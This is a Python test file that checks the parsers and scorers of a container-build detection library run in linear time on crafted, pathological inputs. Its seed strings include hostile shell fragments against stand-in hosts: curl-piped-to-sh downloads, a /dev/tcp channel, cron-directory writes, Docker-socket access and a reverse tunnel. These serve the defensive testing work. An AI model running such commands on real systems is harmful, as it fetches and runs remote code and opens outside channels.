"""Time is linear: ten times the field, or the input, takes about ten times as long.

Each text is made to be as costly as it can be. What is quadratic takes a hundred times as
long; the bound lies between, far enough from both for a busy machine.
"""

from __future__ import annotations

import gc
import io
from collections.abc import Callable
from math import log2
from time import process_time
from typing import Any

import pytest
from benchmarks.compare import LONG, scorer

from t1612core import (
    AUTO,
    SCHEMAS,
    SENTINEL,
    Detector,
    EventError,
    Kind,
    event_id,
    events_from,
    summarise,
)
from t1612core.stream.json_stream import json_values
from t1612core.stream.sources import read_lines
from t1612core.text import kql

pytestmark = pytest.mark.growth

RULE, EXPERT = Detector(SENTINEL), Detector()
MOST = 25  # times as long for ten times as much


def growth(make: Callable[[int], Callable[[], object]], size: int) -> float:
    """Give how many times as long the work of ten times the size takes; the least of some tries."""
    gc.collect()
    gc.disable()
    ratios = []
    for _ in range(5):
        small, large = make(size), make(10 * size)
        costs = []
        for work in (small, large):
            times = 0
            start = process_time()
            while process_time() - start < 0.02:  # the clock is coarse
                work()
                times += 1
            costs.append((process_time() - start) / times)
        ratios.append(costs[1] / costs[0])
    gc.enable()
    return min(ratios)


@pytest.mark.parametrize("name", LONG)
def test_a_field(name: str) -> None:
    kind, event = LONG[name]
    score = scorer(RULE, kind)

    def make(size: int) -> Callable[[], object]:
        made = event(size)
        return lambda: score(made)

    assert growth(make, 20_000) < MOST


INPUTS: dict[str, Callable[[int], bytes]] = {
    "lines": lambda size: b'{"a":1}\n' * size,
    "an array on one line": lambda size: b"[" + b'{"a":1},' * size + b"7]",
    "an array on one line, cut": lambda size: b"[" + b'{"a":1},' * size,
    "an array on one line, broken": lambda size: b"[" + b'{"a":1},' * size + b"x]",
    "an array over lines": lambda size: b"[\n" + b'{"a":1},\n' * size + b"7\n]",
    "values on one line": lambda size: b'{"a":1}' * size,
    "beginnings": lambda size: b'{"a":[\n' * size,
    "beginnings and a long rest": lambda size: b'{"a":[\n' * 100 + b"1,\n" * size,
    "an object over lines": lambda size: b'{"a":[\n' + b"1,\n" * size + b"1]}",
    "an object over lines, cut": lambda size: b'{"a":[\n' + b"1,\n" * size,
    "blank lines": lambda size: b"\n" * size,
    "open strings": lambda size: b'"' * size,
    "rows of CSV": lambda size: b"a,b\n" + b"1,2\n" * size,
    "rows of CSV over lines": lambda size: b"a,b\n" + b'1,"\n2"\n' * size,
    "open quotes of CSV": lambda size: b"a,b\n" + b'1,"\n' * size,
    "a row of CSV without end": lambda size: b'a,b\n1,"' + b"2\n" * size,
    "cells of several values": lambda size: b"event.type,b\n" + b'"' + b"a," * size + b'",\n',
    "lists in cells": lambda size: b"event.type,b\n" + b'"' + b"[" * size + b'",\n',
    "events in XML": lambda size: b"<Event></Event>" * size,
    "events in XML that never end": lambda size: b"<Event>" * size,
    "ends of events in XML": lambda size: b"<Event></Event>" + b"</Event>" * size,
    "comments in XML": lambda size: b"<?xml?>" + b"<!-- - " * size,
    "texts in XML": lambda size: b"<Event>" + b"<![CDATA[ ]]>" * size + b"</Event>",
    "beginnings of texts in XML": lambda size: b"<Event>" + b"<![CDATA[" * size,
    "prefixes in XML": lambda size: b"<?xml?>" + b"<a:" * size + b"<" + b"a" * size,
    "events in XML of a namespace": lambda size: b"<e:Event></e:Event>" * size,
    "lines of CEF": lambda size: b"Mar  2 08:06:41 h CEF:0|a|b|c|d|e|f|cs1=x\n" * size,
    "keys of CEF": lambda size: b"CEF:0|a|b|c|d|e|f|" + b"cs1=x " * size,
    "a head of CEF": lambda size: b"Mar  2 08:06:41 " + b"a " * size + b"CEF:0|" + b"\\|" * size,
    "lines of dmesg": lambda size: b"[ 12.3] audit: type=1309 audit(1.5:7): a0=x\n" * size,
    "what dmesg may begin with": lambda size: b"[ " * size + b"1" * size + b".",
    "an event in XML without end": lambda size: b"<Event>" + b"<a>\n" * size,
    "lines behind a prefix": lambda size: b'Mar  2 08:06:41 a b: {"a":1}\n' * size,
    "a deep line behind a prefix": lambda size: b"Mar  2 08:06:41 a b: " + b'{"a":' * size,
    "a line of brackets behind a prefix": lambda size: b"Mar  2 08:06:41 a b: " + b"{" * size,
    "what is no prefix": lambda size: b"a/" * size,
    "a head of CSV without end": lambda size: b"a" + b",a" * size,
}


_HEAD = b"type=%s msg=audit(1772438801.500:%d): "
INPUTS |= {
    "records of one event": lambda size: (_HEAD % (b"EXECVE", 1) + b'a0="x"\n') * size,
    "records of events": lambda size: b"".join(
        _HEAD % (b"SYSCALL", number) + b"pid=1\n" for number in range(size)
    ),
    "open quotes of a record": lambda size: _HEAD % (b"EXECVE", 1) + b' a1="x' * (size * 8),
    "names of a record": lambda size: _HEAD % (b"EXECVE", 1) + b"a" * (size * 60),
    "gaps before a record": lambda size: b"a: " * (size * 20) + _HEAD % (b"CWD", 1),
}


@pytest.mark.parametrize("name", INPUTS)
def test_an_input(name: str) -> None:
    def make(size: int) -> Callable[[], object]:
        data = INPUTS[name](size)
        return lambda: [item.line for item in json_values(read_lines(io.BytesIO(data)))]

    assert growth(make, 1_000) < MOST


@pytest.mark.parametrize("name", [name for name in INPUTS if "record" in name])
def test_records_that_are_joined(name: str) -> None:
    detector = Detector(schema=SCHEMAS["auditd"])

    def make(size: int) -> Callable[[], object]:
        data = INPUTS[name](size)
        return lambda: [*detector.scan_ndjson(io.BytesIO(data), on_error=lambda _: None)]

    assert growth(make, 1_000) < MOST


HANDED_OVER: dict[str, Callable[[int], object]] = {
    "lists in a list": lambda size: [[{"a": 1}]] * size,
    "answers in an answer": lambda size: {"value": [{"value": [{"a": 1}]}] * size},
    "rows of a table": lambda size: {"columns": ["a"], "rows": [[1]] * size},
    "columns of a table": lambda size: {"columns": ["a"] * size, "rows": [[1] * size]},
    "texts": lambda size: ['[{"a":1}]'] * size,
    "a text": lambda size: [f"[{'[1],' * size}1]"],
    "a deep text": lambda size: ["[" * size],
    "what nobody knows": lambda size: {"value": [7] * size},
    "results by their names": lambda size: {"a": [{"a": 1}] * size, "b": {"c": [{"a": 1}] * size}},
    "names of results": lambda size: {str(at): [{"a": 1}] for at in range(size)},
    "rows of a snapshot": lambda size: {
        **{str(at): at for at in range(size)},
        **{"name": "x", "hostIdentifier": "x", "snapshot": [{"a": "1"}] * size},
    },
    "behaviours of a detection": lambda size: {"behaviors": [{"cmdline": "x"}] * size},
    "streams": lambda size: {"streams": [{"stream": {"a": "b"}, "values": [["1", "x"]] * size}]},
    "records of OpenTelemetry": lambda size: {
        "resourceLogs": [
            {
                "resource": {"attributes": [{"key": "a", "value": {"stringValue": "b"}}] * size},
                "scopeLogs": [{"logRecords": [{"body": {"stringValue": "x"}}] * size}],
            }
        ]
    },
    "a long event of a collector": lambda size: {"event": {str(at): at for at in range(size)}},
    "keys of a line of CEF": lambda size: [{"message": f"CEF:0|a|b|c|d|e|f|{'cs1=x ' * size}"}],
    "words of a line of CEF": lambda size: [{"message": f"CEF:0|a|b|c|d|e|f|{'a.' * size}"}],
    "quoted texts": lambda size: [{"Type": "Syslog", "SyslogMessage": "<1>" + "a " * size}],
    "quoted XML": lambda size: [{"Type": "Syslog", "SyslogMessage": "<Event>" + "<a>" * size}],
    "messages that carry events": lambda size: [{"message": 'Mar  2 08:06:41 a b: {"a":1}'}] * size,
    "a message that carries nothing": lambda size: {"message": "<1>" + "{" * size},
}


@pytest.mark.parametrize("name", HANDED_OVER)
def test_what_is_handed_over(name: str) -> None:
    def make(size: int) -> Callable[[], object]:
        value = HANDED_OVER[name](size)
        return lambda: [*events_from(value, on_error=lambda _: None)]

    assert growth(make, 1_000) < MOST


def _nested(depth: int, times: int) -> object:
    held: object = 1
    for _ in range(depth):
        held = [held] * times
    return held


IDENTIFIED: dict[str, Callable[[int], object]] = {
    "many keys": lambda size: {str(at): at for at in range(size)},
    "a deep list": lambda size: _nested(size, 1),
    "the same list again": lambda size: _nested(size, 2),
}


@pytest.mark.parametrize("name", IDENTIFIED)
def test_the_id_of_an_event(name: str) -> None:
    def make(size: int) -> Callable[[], object]:
        value = IDENTIFIED[name](size)
        return lambda: event_id(value)

    assert growth(make, 1_000) < MOST


def _build(host: str, at: int) -> dict[str, object]:
    line = f"docker build -t a:{at} /tmp/x"
    return {"DeviceName": host, "FileName": "docker", "ProcessCommandLine": line}


SUMMED: dict[str, Callable[[int], object]] = {
    "findings that differ": lambda size: [_build("web-1", at) for at in range(size)],
    "the same finding": lambda size: [_build("web-1", 0)] * size,
    "hosts": lambda size: [_build(f"web-{at}", 0) for at in range(size)],
    "reasons": lambda size: [{f"ProcessCommandLine{at}": "x"} for at in range(size)],
}


@pytest.mark.parametrize("name", SUMMED)
def test_a_summary(name: str) -> None:
    def make(size: int) -> Callable[[], object]:
        value = SUMMED[name](size)
        return lambda: summarise([value])

    assert growth(make, 100) < MOST


# Fields of an event that passes the gate of HARDENED, and what its readers may stumble over.
# A text begins as given, so that the readers look at the rest.
PASSING: dict[Kind, dict[str, str]] = {
    "process": {
        "FileName": "sh",
        "ProcessCommandLine": "sh -c 'docker build -t x /tmp/x'",
        "InitiatingProcessFileName": "bash",
        "InitiatingProcessCommandLine": "bash -c ls",
        "InitiatingProcessParentFileName": "sshd",
        "AccountName": "dev",
        "FolderPath": "/usr/bin/sh",
    },
    "file": {
        "FileName": "Dockerfile",
        "FolderPath": "/tmp/x",
        "FileContent": "FROM a",
        "InitiatingProcessFileName": "bash",
        "InitiatingProcessCommandLine": "bash -c ls",
    },
    "network": {
        "InitiatingProcessFileName": "dockerd",
        "RemoteUrl": "x.example",
        "RemoteIP": "203.0.113.7",
        "RemotePort": "8443",
    },
}
FIELDS: tuple[tuple[Kind, str, str], ...] = (
    ("process", "ProcessCommandLine", "sh -c docker build "),
    ("process", "ProcessCommandLine", "docker build "),
    ("process", "ProcessCommandLine", "cmd /c docker build "),
    ("process", "ProcessCommandLine", "docker build . --add-host a:203.0.113.9 --build-arg A="),
    ("process", "ProcessCommandLine", "curl --unix-socket /var/run/docker.sock "),
    ("process", "ProcessCommandLine", "chisel client a R:2375:b "),
    ("process", "ProcessCommandLine", "pack build a -b "),
    ("process", "InitiatingProcessCommandLine", "sh -c "),
    ("process", "InitiatingProcessCommandLine", "bash -c docker build "),
    ("process", "InitiatingProcessFileName", ""),
    ("process", "InitiatingProcessParentFileName", ""),
    ("process", "AccountName", ""),
    ("process", "FolderPath", "/tmp/"),
    ("file", "FolderPath", "/tmp/"),
    ("file", "FileContent", "FROM a\nRUN "),
    ("file", "InitiatingProcessCommandLine", "sh -c "),
    ("network", "RemoteUrl", "https://"),
    ("network", "RemoteIP", ""),
)
SEEDS = (
    *(
        "a",
        " ",
        "/",
        "../",
        "\\",
        "'",
        '"',
        "$(",
        "`",
        "(",
        "\n",
        "|",
        " | ",
        "&& ",
        "<<E\n",
        "<(x ",
    ),
    *(
        "docker build - ",
        "-f ",
        "-t nginx ",
        "--build-arg A=b ",
        "--build-arg A=http://203.0.113.9/a|sh ",
        "--add-host pypi.org:203.0.113.9 ",
        "--build-context a=docker-image://203.0.113.9/a ",
        "-o /etc/cron.d ",
        "http://203.0.113.9/a ",
        "a.",
        "$",
    ),
    *(
        "sh -c ",
        "base64 -d | ",
        "curl http://x.example | ",
        "exec 3<>/dev/tcp/x.example/1; docker build - <&3; ",
        "curl -o f http://x.example/a; docker build - < f; ",
        "/proc/self/cwd/..",
        "; cd /tmp ",
        "{",
        "[",
        "%41",
        "=",
        "1.",
    ),
    # Names of secrets, whose values reach far, and what opens a group of cmd's.
    *(
        "Authorization: Bearer x ",
        "token=a\\ ",
        ",token=",
        "--build-arg ",
        "build-arg:",
        "?token=",
        "x token = ",
        "'\"'\"'",
        "a:b@",
        "@",
        ":",
        "x(",
    ),
)
KIB, MIB = 1 << 10, 1 << 20
PER_DOUBLING = 2.3
CLEAR = 2.1  # so many times as long is linear beyond doubt: what is longer need not be tried
# Readers stop at limits: past one a text costs no more, and a quadratic reader hides there.
# So a text grows up to each limit, and up to 1 MiB for what has none.
STEPS = ((8 * KIB, 32 * KIB), (32 * KIB, 128 * KIB), (MIB // 2, MIB))


def doubling(
    work: Callable[[str], object], start: str, seed: str, sizes: tuple[int, int] = STEPS[-1]
) -> float:
    """Give how many times as long a text takes as one of half of it; the least of some tries.

    *sizes* are a text's and a longer one's, as which none is longer: what goes beyond a limit is a
    finding, and is read once more to show it. The ratio is taken for one doubling.
    """
    texts = [start + seed * ((size - len(start)) // len(seed)) for size in sizes]
    doublings = log2(len(texts[1]) / len(texts[0]))
    ratios = []
    for _ in range(9):
        costs = []
        for text in texts:
            begun = process_time()
            work(text)
            costs.append(process_time() - begun)
        # Else the clock is coarse.
        ratios.append((costs[1] / costs[0]) ** (1 / doublings) if costs[1] > 0.008 else 0)
        if ratios[-1] < CLEAR:
            break
    return min(ratios)


def steepest(work: Callable[[str], object], start: str, seed: str, up_to: int) -> float:
    """Give the worst doubling of texts up to a length, and beyond it while in doubt."""
    worst = 0.0
    gc.disable()  # what the other tests left would be searched now and then
    for sizes in STEPS:
        if sizes[1] <= up_to or worst >= CLEAR:
            worst = max(worst, doubling(work, start, seed, sizes))
    gc.enable()
    return worst


def length(field: int, seed: int) -> int:
    """Give how long a field's text gets even where shorter ones leave no doubt.

    It moves on from field to field: each field is seen with some seeds at 1 MiB, each seed
    in some field, and in every second at the limit of those that read a command line.
    """
    if (field + seed) % len(FIELDS) == 0:
        return STEPS[2][1]
    return STEPS[(field + seed) % 2][1]


PAIRS = [
    pytest.param(*field, seed, length(first, second), id=f"{'-'.join(field)}-{seed!r}")
    for first, field in enumerate(FIELDS)
    for second, seed in enumerate(SEEDS)
]


@pytest.mark.parametrize(("kind", "field", "start", "seed", "up_to"), PAIRS)
def test_a_field_under_hardened(kind: Kind, field: str, start: str, seed: str, up_to: int) -> None:
    explain, score = EXPERT.explain, scorer(EXPERT, kind)

    def work(text: str) -> None:
        event = {**PASSING[kind], field: text}
        if up_to == MIB:  # an explanation weighs and shows all that a finding does
            finding = score(event)
            _ = finding and finding.evidence
        explain(event, kind=kind)

    assert steepest(work, start, seed, up_to) < PER_DOUBLING


def test_each_field_and_each_seed_is_tried_at_full_length() -> None:
    full = [pair.values for pair in PAIRS if pair.values[4] == MIB]

    assert set(FIELDS) == {values[:3] for values in full}
    assert set(SEEDS) == {values[3] for values in full}


# Readers of what a line starts, each with what it may stumble over: no seed fits them all.
STARTING = (
    ("find /tmp -name docker ", "-exec {} build {} ; "),
    ("find /tmp -name docker -exec docker build ", "{}"),
    ("parallel docker build {} ::: ", "a "),
    ("parallel docker build ::: a ", "{} "),
    ("sh -c 'docker build; ", "echo a | xargs "),
    ("sh -c 'docker build; ", "| xargs docker build {} "),
    ("sh -c 'docker build; ", "echo x | sh ;"),
    ("sh -c 'docker build; ", "at now <<E\n"),
    ("sh -c 'docker build; echo a > f; ", "sh f; . ./f; "),
    ('sh -c \'docker build; echo "* * * * * a b c d e" > f; ', "crontab < f; "),
    ("sh -c 'docker build; ", "echo b >> f; sh f; "),
    ("sh -c 'docker build; find . ", "-exec sh -c a ; "),
    ("sh -c 'docker build; ", "sh <(echo a) ; "),
    ("unlisted ", "'docker build . ' "),
    ("unlisted -- ", "docker build "),
    ("unlisted 'docker build; ", 'unlisted "a b" '),
    ("schtasks ", "docker build "),
    ("kubectl exec -- ", "kubectl exec -- "),
    ("podman machine ssh ", "docker build "),
    ('python3 -c "system ', "'docker ' , "),
    ('python3 -c "system ', "'docker '+"),
    ('python3 -c "system ', "'a',args:["),
    ("awk 'system ", '"docker build" '),
    ("powershell -c docker build ; ", "iex ('a'+'b') ;"),
    ("powershell -c docker build ; ", "& ('a' "),
    ("powershell -c docker build ; ", "[Process]::Start('a','b c');"),
    ('["docker",', '"build",'),
    ("[docker ", "build, "),
    ("docker\\x00", "build\\x00"),
    ('a0="docker" ', 'a1="build" '),
    ("docker\u00a0build", "\u00a0x"),
    # What a shell's text sets, and what of it is put in.
    ("sh -c 'docker build; ", "f(){ f; f; docker build x; }; f;"),
    ("sh -c 'f(){ f; f; docker build x; }; ", "f a;"),
    ("sh -c 'docker build; set -- ", "aaaaaaaaa "),
    ("sh -c 'docker build; set -- aaaaaaaaaaaaaaaa bbbbbbbb; ", '$@ "$@" '),
    ("sh -c 'docker build; set -- a b c; ", "shift; "),
    ("sh -c 'alias a=bbbbbbbbbbbbbbbb; docker build; ", "a a; "),
    ("sh -c 'docker build ", "$(echo a) "),
    ("sh -c 'docker build ", "/t?p/?*?*?* "),
    ("sh -c 'docker build; ", "./x build -t a b; "),
    ("cmd /c docker build & ", "set a=%b%%b%&set b=%a%%a%&"),
    ("cmd /c docker build & set a=bbbbbbbbbbbbbbbbbb& ", "%a% "),
)


@pytest.mark.parametrize(("start", "seed"), STARTING)
def test_a_line_that_starts_others(start: str, seed: str) -> None:
    event = {**PASSING["process"], "FileName": start.split()[0].partition("=")[0]}

    def work(text: str) -> None:
        EXPERT.explain({**event, "ProcessCommandLine": text}, kind="process")

    assert steepest(work, start, seed, STEPS[1][1]) < PER_DOUBLING


def test_the_measure_sees_what_is_quadratic(monkeypatch: pytest.MonkeyPatch) -> None:
    def careless(needle: str) -> Callable[[str], int]:
        def find(folded: str) -> int:
            for start in range(len(folded)):
                if folded[start:].startswith(needle) and not folded[start - 1 : start].isalnum():
                    return start
            return -1

        return find

    monkeypatch.setattr(kql, "_term_finder", careless)
    test = kql.has_any(["build"]).test

    def make(size: int) -> Callable[[], object]:
        text = "xbuild" * (size // 6)
        return lambda: test(text)

    assert growth(make, 20_000) > MOST
    # A busy machine may hide it once.
    found = [doubling(lambda text: test(text[: len(text) // 16]), "", "xbuild") for _ in range(3)]
    assert max(found) > PER_DOUBLING


# What steps of a chain are read from, by readers that scoring does not ask.
OBSERVED: dict[str, Callable[[int], str]] = {
    "exec": lambda n: f"docker exec c sh -c '{'curl http://a.example/x | sh; ' * (n // 29)}'",
    "save": lambda n: "docker save a -o " + " > ".join("a" * (n // 4)),
    "cluster": lambda n: "kubectl run x " + "--image=a " * (n // 10),
    "cluster-rights": lambda n: (
        'kubectl run x --image=a --overrides="{' + '"privileged": ' * (n // 14)
    ),
    "library": lambda n: 'python3 -c "docker ' + "containers.run('" * (n // 16),
    "library-node": lambda n: "node -e 'docker " + "createContainer({Image: " * (n // 24),
    "id-in-a-file": lambda n: "sh -c 'docker run `" + "$(cat /" * (n // 7),
    "copied": lambda n: "docker cp " + "c:" * (n // 2) + " d:/x",
}


@pytest.mark.parametrize("name", OBSERVED)
def test_what_steps_are_read_from(name: str) -> None:
    program = OBSERVED[name](0).split()[0]

    def make(size: int) -> Callable[[], object]:
        event = {"FileName": program, "ProcessCommandLine": OBSERVED[name](size)}
        return lambda: EXPERT.observe(event, kind="process")

    assert growth(make, 2_000) < MOST


# Of other products: what is long, wide or made of many elements.
TOLD: dict[str, Callable[[int], dict[str, Any]]] = {
    "a long text of XML": lambda size: {
        "_raw": "<Event><System><Channel>Linux-Sysmon</Channel><EventID>1</EventID></System>"
        f"<EventData><Data Name='CommandLine'>docker {'x ' * size}</Data></EventData></Event>"
    },
    "XML of many elements": lambda size: {
        "_raw": f"<Event><System>sysmon</System>{'<Data>x</Data>' * size}</Event>"
    },
    "XML that is open everywhere": lambda size: {"_raw": f"sysmon {'<Event>' * size}</Event>"},
    "many columns": lambda size: {f"CommandLine{number}": "x" for number in range(size)},
    "a list of many arguments": lambda size: {
        "eventName": "execve",
        "processName": "x",
        "args": [*[{"name": "x"}] * size, {"name": "pathname", "value": "/bin/x"}],
    },
    "a list of many fields": lambda size: {
        "Event": {
            "System": {"Channel": "sysmon", "EventID": 1},
            "EventData": {
                "Data": [{"@Name": f"n{number}", "#text": "x"} for number in range(size)]
            },
        }
    },
    "a message of many lines": lambda size: {
        "Channel": "sysmon",
        "Id": 1,
        "Message": "CommandLine: docker\n" * size,
    },
    "columns that are a long text": lambda size: {
        "hostIdentifier": "h",
        "columns": '{"path": "/bin/x", "cmdline": "' + "x " * size + '"}',
    },
    "columns that are open everywhere": lambda size: {
        "hostIdentifier": "h",
        "columns": '{"a":' * size,
    },
    "many fields of Falco's in all spellings": lambda size: {
        "priority": "x",
        "rule": "x",
        "output": "x",
        **{f"proc_n{number}": "x" for number in range(size)},
        "output_fields": {"proc": {f"n{number}": "x" for number in range(size)}},
    },
    "many custom strings": lambda size: {
        "cef": {
            "deviceVendor": "x",
            **{f"cs{number}Label": "CommandLine" for number in range(size)},
            **{f"cs{number}": "x" for number in range(size)},
        }
    },
    "many files": lambda size: {
        "ID": "1.0:1",
        "SYSCALL": {"exe": "/usr/bin/x"},
        "CWD": {"cwd": "/tmp"},
        "PATH": [*[{"name": "x", "nametype": "CREATE"}] * size],
    },
    "many words of a line": lambda size: {
        "ID": "1.0:1",
        "SYSCALL": {"exe": "/usr/bin/docker"},
        "EXECVE": {"ARGV": ["docker", *["x"] * (4 * size)]},  # past what is quiet
    },
    "a list of what an event is": lambda size: {
        "@timestamp": "x",
        "ecs": {"version": "8"},
        "event": {"category": ["x"] * size},
    },
}


@pytest.mark.parametrize("name", TOLD)
def test_an_event_of_another_product(name: str) -> None:
    detector = Detector(schema=AUTO)

    def make(size: int) -> Callable[[], object]:
        event = TOLD[name](size)

        def work() -> object:
            try:
                return detector.score(event)
            except EventError as error:
                return error

        return work

    assert growth(make, 2_000) < MOST
